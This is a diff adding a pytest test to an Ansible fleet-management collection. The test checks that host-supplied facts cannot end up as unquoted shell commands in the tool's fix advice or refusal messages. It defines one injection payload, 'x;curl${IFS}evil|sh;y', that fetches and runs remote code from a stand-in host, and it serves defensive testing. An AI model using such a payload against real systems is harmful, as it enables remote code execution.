@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import json
+import re
+import shlex
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any, NotRequired, get_type_hints
 
@@ -16,7 +19,7 @@ from ansible_collections.gb10.fleet.plugins.plugin_utils.doctor.subject import S
 from ansible_collections.gb10.fleet.plugins.plugin_utils.documents.render import render
 from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import catalog, schema
 from ansible_collections.gb10.fleet.plugins.plugin_utils.ground.view import View
-from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import probe, transport
+from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice, probe, transport
 
 from tests.support.answers import EMPTY, GONE, altered, places, sound_facts
 from tests.support.attacker import tally
@@ -84,6 +87,41 @@ def test_no_fact_of_a_wrong_type_reaches_what_is_behind() -> None:
     tally("a host sends a fact of a wrong type", refused + harmless, len(tracebacks))
     assert not tracebacks, f"{len(tracebacks)} of {refused + harmless}:\n" + "\n".join(tracebacks[:60])
     assert refused + harmless >= 1500 and refused > harmless
+
+
+# A command, in words that a shell runs without a quote or a space.
+EVIL = "x;curl${IFS}evil|sh;y"
+
+
+def advised(known: dict[str, Any]) -> Iterator[str]:
+    """All that the doctor says to do about these facts."""
+    catalogs = {name: catalog.load(name) for name in probe.CATALOGS}
+    subject = Subject("spark-a", known, {}, {}, catalogs, catalog.declared_variables())
+    yield from (finding.way_out for finding in findings.evaluate_facts(subject))
+
+
+def refused(known: dict[str, Any]) -> Iterator[str]:
+    """All that the plans say to do about these facts, where they refuse."""
+    view = View("spark-a", known, {"vllm_model": "o/m", "vllm_allow_tag": True}, ["spark-a"])
+    for text in (text for role in ROLES for text in render(role, view).refusals):
+        yield from (text.partition("Fix: ")[2], *re.findall("`[^`]*`", text))
+
+
+def test_no_word_of_a_host_is_a_command_in_a_way_out() -> None:
+    """Each text where its type lets a command in, beside each other fact of its section turned."""
+    tried, said = 0, set[str]()
+    for way in places(sound_facts()):
+        evil = altered(sound_facts(), way, EVIL)
+        if schema.problem(evil, Facts, "facts"):
+            continue
+        beside = [other for other in places(evil[way[0]], way[:1]) if other[: len(way)] != way[: len(other)]]
+        turned = [altered(evil, other, value) for other in beside for value in (None, False, 0)]
+        told = [refused(advice.quotable(evil)), advised(evil)]
+        told += [advised(known) for known in turned if not schema.problem(known, Facts, "facts")]
+        tried += len(told)
+        said |= {text for texts in told for text in texts if EVIL in text.replace(shlex.quote(EVIL), "")}
+    tally("a fact of a host is a command in a way out of ours", tried, len(said))
+    assert not said and tried > 100
 
 
 @pytest.mark.parametrize(
